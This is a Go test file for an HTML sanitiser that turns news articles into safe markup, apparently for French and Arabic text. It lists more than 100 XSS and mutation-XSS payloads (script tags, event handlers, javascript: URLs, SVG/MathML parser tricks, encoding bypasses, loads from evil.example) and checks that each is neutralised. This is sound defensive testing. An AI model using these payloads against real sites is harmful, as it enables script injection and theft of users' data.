package article

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
)

// attacks is written after the OWASP filter evasion list, the mutation attacks known of HTML sanitisers and what
// web archives and mails carry. {evil()} stands for what must never come through in a form that runs or is fetched.
var attacks = []string{
	`<script>evil()</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<script/src=https://evil.example/x.js>`,
	`<scr<script>ipt>evil()</scr</script>ipt>`,
	`<<script>evil();//<</script>`,
	`<script>evil()`,
	`<script src=//evil.example/.j>`,
	`</title><script>evil()</script>`,
	`<script type="text/template"><img src=x onerror=evil()></script>`,
	"<scr\x00ipt>evil()</scr\x00ipt>",
	"<script\x0d>evil()</script\x0a>",
	`<svg><script>evil()</script></svg>`,
	`<svg onload=evil()>`,
	`<svg/onload=evil()//`,
	`<svg><animate onbegin=evil() attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:evil()"><text x=20 y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>evil()</script></svg>#x">`,
	`<svg><foreignObject><iframe srcdoc="<script>evil()</script>"></iframe></foreignObject></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=evil()>">`,
	`<svg><set attributeName=onmouseover to=evil()>`,
	`<svg><desc><![CDATA[</desc><script>evil()</script>]]></svg>`,
	`<math><mi//xlink:href="data:x,<script>evil()</script>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">`,
	`<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:evil()">click</maction></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>`,
	`<img src=x onerror=evil()>`,
	`<img src="javascript:evil()">`,
	`<img src=jav&#x09;ascript:evil()>`,
	`<img src=" &#14; javascript:evil()">`,
	`<img """><script>evil()</script>">`,
	`<img src=x:x onerror=&#101;&#118;&#105;&#108;()>`,
	`<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x">`,
	`<img dynsrc="javascript:evil()" lowsrc="javascript:evil()">`,
	`<image src=x onerror=evil()>`,
	`<picture><source srcset="https://evil.example/x"><img></picture>`,
	`<a href="javascript:evil()">x</a>`,
	`<a href="JaVaScRiPt:evil()">x</a>`,
	`<a href="java&#10;script:evil()">x</a>`,
	`<a href="&#x6A;avascript&colon;evil()">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=">x</a>`,
	`<a href="vbscript:evil()">x</a>`,
	`<a href="https://evil.example" ping="https://evil.example/ping" target=_blank>x</a>`,
	`<a onmouseover=evil() href=#>x</a>`,
	`<map><area shape=rect coords="0,0,9,9" href="javascript:evil()"></map>`,
	`<base href="https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<link rel=dns-prefetch href="//evil.example">`,
	`<meta http-equiv=refresh content="0;url=javascript:evil()">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *">`,
	`<style>@import url(https://evil.example/x.css);</style>`,
	`<style>body{background:url("javascript:evil()")}</style>`,
	`<style><!--</style><script>evil()//--></script>`,
	`<p style="background-image:url(https://evil.example/x)">x</p>`,
	`<p style="width:expression(evil())">x</p>`,
	`<div style="position:fixed;inset:0" class=overlay id=main>x</div>`,
	`<iframe src="javascript:evil()"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;evil()&lt;/script&gt;"></iframe>`,
	`<frameset><frame src="javascript:evil()"></frameset>`,
	`<object data="https://evil.example/x.swf"><param name=x value=evil()></object>`,
	`<embed src="https://evil.example/x.swf" AllowScriptAccess=always>`,
	`<applet code=Evil.class></applet>`,
	`<portal src="https://evil.example"></portal>`,
	`<form action="https://evil.example"><input name=q><button>go</button></form>`,
	`<form id=x></form><button form=x formaction="javascript:evil()">x</button>`,
	`<input type=image src=x onerror=evil()>`,
	`<input autofocus onfocus=evil()>`,
	`<isindex type=image src=1 onerror=evil()>`,
	`<select><option><style></option></select><img src=x onerror=evil()></style>`,
	`<textarea></textarea><script>evil()</script>`,
	`<textarea><script>evil()</script>`,
	`<title><img src=x onerror=evil()></title>`,
	`<noscript><p title="</noscript><img src=x onerror=evil()>">`,
	`<noembed><img title="</noembed><img src=x onerror=evil()>">`,
	`<noframes><img title="</noframes><img src=x onerror=evil()>">`,
	`<xmp><p title="</xmp><img src=x onerror=evil()>">`,
	`<plaintext><img src=x onerror=evil()>`,
	`<template><script>evil()</script></template>`,
	`<video src=x onerror=evil() poster="https://evil.example/p"><source onerror=evil()></video>`,
	`<audio src=x onerror=evil() autoplay></audio>`,
	`<details open ontoggle=evil()><summary>x</summary>y</details>`,
	`<marquee onstart=evil()>x</marquee>`,
	`<body onload=evil() background="https://evil.example/x"><p>x</p></body>`,
	`<table background="https://evil.example/x"><td background="javascript:evil()">x</table>`,
	`<bgsound src="https://evil.example/x">`,
	`<layer src="https://evil.example/x"></layer>`,
	`<keygen autofocus onfocus=evil()>`,
	`<dialog open onclose=evil()><form method=dialog></form></dialog>`,
	`<blockquote cite="javascript:evil()">x</blockquote>`,
	`<q cite="https://evil.example">x</q>`,
	`<p lang="fr" onclick=evil()>x</p>`,
	`<p lang='fr" onclick="evil()'>x</p>`,
	`<p lang="javascript:evil()">x</p>`,
	`<p dir="ltr evil()">x</p>`,
	`<bdo dir=rtl onmouseover=evil()>x</bdo>`,
	"<p\x0bonclick=evil()>x</p>",
	`<p/onclick=evil()>x</p>`,
	`<p ''onclick=evil()>x</p>`,
	`<p contenteditable autofocus onfocus=evil() tabindex=0>x</p>`,
	`<custom-element onclick=evil()>x</custom-element>`,
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">evil()</x:script>`,
	`<?xml-stylesheet href="javascript:evil()"?><p>x</p>`,
	`<?php evil() ?><p>x</p>`,
	`<!--[if gte IE 4]><script>evil()</script><![endif]-->`,
	`<!--><script>evil()</script>-->`,
	`<!-- --!><img src=x onerror=evil()> -->`,
	`<!DOCTYPE html [<!ENTITY x "<script>evil()</script>">]>&x;`,
	`<![CDATA[<script>evil()</script>]]>`,
	`<![><img src=x onerror=evil()>`,
	`&lt;script&gt;evil()&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;evil()&amp;lt;/script&amp;gt;`,
	"\xbcscript\xbeevil()\xbc/script\xbe",
	`+ADw-script+AD4-evil()+ADw-/script+AD4-`,
	`<p>x</p`,
	`<p onclick="evil()"`,
	`<`,
	`<a href="https://evil.example`,
	`<div id=__proto__ name=innerHTML class="app" slot=x is=evil part=y>x</div>`,
}

func TestSanitizeAttacks(t *testing.T) {
	if len(attacks) < 80 {
		t.Fatalf("%d attacks, want at least 80", len(attacks))
	}
	for _, attack := range attacks {
		checkSanitized(t, attack)
		checkSanitized(t, "<p>avant "+attack+" après</p>")
	}
}

// The checks themselves must be able to fail.
func TestUnsafeIsSeen(t *testing.T) {
	for _, bad := range []string{
		`<script>x</script>`, `<p onclick=x>x</p>`, `<a href="#">x</a>`, `<img src=x>`, `<p class=x>x</p>`,
		`<p lang="a b">x</p>`, `<bdo dir=up>x</bdo>`, `<svg></svg>`, `<!-- x -->`, `<!doctype html>`,
	} {
		if unsafe(bad) == "" {
			t.Errorf("unsafe(%q) finds nothing", bad)
		}
	}
}

func TestSanitize(t *testing.T) {
	tests := []struct{ reason, in, want string }{
		{"structure stays", `<h1>T</h1><p>Un <em>deux</em> <strong>trois</strong>.</p><ul><li>a</li></ul>`,
			`<h1>T</h1><p>Un <em>deux</em> <strong>trois</strong>.</p><ul><li>a</li></ul>`},
		{"a link leaves its words where they are", `l'<a href="https://x.example">Iran</a>, dit-il`, `l&#39;Iran, dit-il`},
		{"an Arabic word is not torn by its mark-up", `<p>ال<font color=red>مغ</font>رب</p>`, `<p>المغرب</p>`},
		{"lang and dir stay, auto too", `<p lang="ar-MA" dir="auto">x</p><bdo dir="RTL">y</bdo>`,
			`<p lang="ar-MA" dir="auto">x</p><bdo dir="RTL">y</bdo>`},
		{"a lang that is none goes", `<p lang="l'arabe">x</p>`, `<p>x</p>`},
		{"class, id, style and handlers go", `<p class=a id=b style="color:red" onclick=c data-x=d>x</p>`, `<p>x</p>`},
		{"blocks are not glued", `<p>Un.</p><p>Deux.</p>`, `<p>Un.</p><p>Deux.</p>`},
		{"nor are unknown blocks", `<form>Un.</form><fieldset>Deux.</fieldset>Trois`,
			`<div>Un.</div><div>Deux.</div>Trois`},
		{"nor custom ones, whose language is kept", `<news-par lang=fr class=x>Un.</news-par>Deux`,
			`<div lang="fr">Un.</div>Deux`},
		{"nor cells", `<table><tr><td width=9>Un</td><td>Deux</td></tr></table>`,
			`<table><tr><td>Un</td><td>Deux</td></tr></table>`},
		{"an image parts words", `Un<img src=x>deux`, `Un deux`},
		{"a word processor's tags leave no trace", `Ra<st1:place>bat</st1:place><o:p></o:p>.`, `Rabat.`},
		{"scripts and styles go with their content", `a<script>b</script><style>c</style>d`, `ad`},
		{"an open object does not swallow the article", `<object data=x><p>Un.</p>`, `<div><p>Un.</p>`},
		{"nor does a frame", `<frame src=x><p>Un.</p>`, ` <p>Un.</p>`},
		{"escaped mark-up stays text", `&lt;b&gt; &amp; « x »`, `&lt;b&gt; &amp; « x »`},
		{"nothing", ``, ``},
	}
	for _, test := range tests {
		if got := Sanitize(test.in); got != test.want {
			t.Errorf("%s: Sanitize(%q)\n got %q\nwant %q", test.reason, test.in, got, test.want)
		}
		checkSanitized(t, test.in)
	}
}

func TestSanitizeDeepNesting(t *testing.T) {
	// x/net/html's parser gives up past 510 nested elements; the sanitiser works on tokens and must not.
	deep := strings.Repeat("<div><section>", 2000) + "fond" + strings.Repeat("</section></div>", 2000)
	if got := Sanitize(deep); got != deep {
		t.Errorf("4000 nested elements: got %d bytes, want the %d given", len(got), len(deep))
	}
}

func FuzzSanitize(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Add("<p dir=rtl lang=ar>«القرار 12» <b>بِنَاءً</b></p>")
	f.Fuzz(func(t *testing.T, s string) { checkSanitized(t, s) })
}

// checkSanitized holds what is true of every result: only kept elements and attributes, the same when sanitised
// again, and no byte of broken UTF-8 that the source did not have.
func checkSanitized(t *testing.T, source string) {
	t.Helper()
	got := Sanitize(source)
	if bad := unsafe(got); bad != "" {
		t.Errorf("Sanitize(%q)\n got %q\nwhich has %s", source, got, bad)
	}
	if again := Sanitize(got); again != got {
		t.Errorf("Sanitize(%q) is not stable:\n once %q\ntwice %q", source, got, again)
	}
	if utf8.ValidString(source) && !utf8.ValidString(got) {
		t.Errorf("Sanitize(%q) = %q is not UTF-8", source, got)
	}
}

// unsafe names the first thing in the mark-up that a sanitised text may not have, or "". It reads both the tokens
// and the tree a browser would build of them, which differ where mark-up is nested wrongly.
func unsafe(markup string) string {
	tokens := html.NewTokenizer(strings.NewReader(markup))
	for kind := tokens.Next(); kind != html.ErrorToken; kind = tokens.Next() {
		token := tokens.Token()
		switch kind {
		case html.CommentToken, html.DoctypeToken:
			return token.String()
		case html.StartTagToken, html.EndTagToken, html.SelfClosingTagToken:
			if bad := unsafeElement(token.Data, token.Attr); bad != "" {
				return bad
			}
		}
	}
	root, err := html.Parse(strings.NewReader("<!doctype html><body>" + markup))
	if err != nil {
		return "" // nested too deep to parse: the tokens have been read
	}
	for n := range root.Descendants() {
		implied := n.Type == html.ElementNode && slices.Contains([]string{"html", "head", "body", "colgroup"}, n.Data)
		if n.Type != html.ElementNode || implied && len(n.Attr) == 0 {
			continue
		}
		if bad := unsafeElement(n.Data, n.Attr); bad != "" {
			return bad
		}
	}
	return ""
}

func unsafeElement(name string, attributes []html.Attribute) string {
	if !slices.Contains(keptElements, name) {
		return "element " + name
	}
	for _, a := range attributes {
		good := a.Key == "lang" && langValue().MatchString(a.Val) || a.Key == "dir" && dirValue().MatchString(a.Val)
		if !good || a.Namespace != "" {
			return "attribute " + a.Key + "=" + a.Val + " on " + name
		}
	}
	return ""
}
